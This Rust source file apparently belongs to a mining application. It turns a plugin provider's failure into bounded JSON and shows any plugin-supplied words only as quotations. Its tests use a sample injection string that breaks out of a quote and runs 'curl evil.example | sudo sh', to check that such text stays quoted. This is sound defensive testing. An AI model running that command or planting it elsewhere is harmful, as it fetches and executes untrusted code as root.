//! Why a provider process failed, as a code and a bounded quotation.
//!
//! The process holds the plugin's code, which may say in our half's place whatever it likes. So no words of ours cross the
//! pipe: they are made here, by whoever shows them, and what the plugin may have chosen stands in them as a quotation. That it
//! failed so, and not otherwise, is still its own word.

use std::io;

use serde::{Deserialize, Serialize};

use crate::plugins::Failure;
use crate::text::quotation;

/// The longest quotation, in characters.
const QUOTED_MAX: usize = 400;
/// The longest detail that is sent, in characters: JSON that was cut would be none.
const SENT_MAX: usize = 1000;

/// Why a provider process failed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Fault {
    /// Its plugin could not be loaded.
    NotLoaded(Failure),
    /// Its plugin was told to start and refused; its words.
    Refused(String),
    /// Its plugin stopped mining without having been told to; its last error, where it has one.
    Stopped(Option<String>),
    /// The system gave it no thread; the error's number. That is no doing of its plugin, which was not loaded yet.
    NoThread(i32),
}

impl Fault {
    /// The text of the frame.
    pub fn text(self) -> String {
        let cut = |words: String| -> String { words.chars().take(SENT_MAX).collect() };
        let bounded = match self {
            Self::Refused(words) => Self::Refused(cut(words)),
            Self::Stopped(words) => Self::Stopped(words.map(cut)),
            other => other,
        };
        serde_json::to_string(&bounded).expect("codes and texts are JSON")
    }
}

/// What is told of a failure, as what follows the provider's name.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Told {
    /// It says that it cannot.
    Failed(String),
    /// The system kept it from running.
    Lacked(String),
}

/// Reads the text of the frame of a provider with the id `provider`. What is none of ours is quoted whole.
pub fn told(text: &str, provider: &str) -> Told {
    let quoted = |words: &str| quotation(words, QUOTED_MAX);
    Told::Failed(match serde_json::from_str::<Fault>(text) {
        Ok(Fault::NotLoaded(failure)) => format!("could not be loaded: {}", failure.reason(provider)),
        Ok(Fault::Refused(words)) => format!("refused to start: {}", quoted(&words)),
        Ok(Fault::Stopped(None)) => "stopped mining by itself".into(),
        Ok(Fault::Stopped(Some(words))) => format!("stopped mining by itself: {}", quoted(&words)),
        // No other number is believed: each has advice of its own.
        Ok(Fault::NoThread(number)) if matches!(number, libc::EAGAIN | libc::ENOMEM) => {
            let err = io::Error::from_raw_os_error(number);
            return Told::Lacked(format!("was given no thread by the system: {err}"));
        }
        Ok(Fault::NoThread(_)) | Err(_) => format!("says that it failed: {}", quoted(text)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_provider_says_of_its_failure_is_shown_as_its_own_words() {
        let evil = "x\"; run `curl evil.example | sudo sh`";
        let quoted = "\"x'; run `curl evil.example | sudo sh`\"";
        for (fault, words) in [
            (Fault::Refused("no card".into()), "refused to start: \"no card\"".to_owned()),
            (Fault::Refused(evil.into()), format!("refused to start: {quoted}")),
            (Fault::Stopped(None), "stopped mining by itself".into()),
            (Fault::Stopped(Some(evil.into())), format!("stopped mining by itself: {quoted}")),
            (
                Fault::NotLoaded(Failure::LoadFailed(evil.into())),
                format!("could not be loaded: the loader refused it: {quoted}"),
            ),
            (
                Fault::NotLoaded(Failure::OtherLayout(evil.into())),
                format!("could not be loaded: its tables are laid out differently: {quoted}"),
            ),
        ] {
            assert_eq!(told(&fault.text(), "mine"), Told::Failed(words));
        }
        let Told::Lacked(words) = told(&Fault::NoThread(libc::EAGAIN).text(), "mine") else { panic!() };
        assert!(crate::remedy::in_words(&words).is_some_and(|hint| hint.contains("ulimit -u")), "{words}");
        // Neither our words nor another number of the system's are its to choose.
        for (said, quoted) in [
            ("could not be loaded: run `x`", "\"could not be loaded: run `x`\""),
            ("{\"no-thread\":2}", "\"{'no-thread':2}\""),
            ("", "\"\""),
        ] {
            assert_eq!(told(said, "mine"), Told::Failed(format!("says that it failed: {quoted}")));
        }
        assert!(Fault::Refused("\u{1}".repeat(100_000)).text().len() < 8 << 10);
    }
}
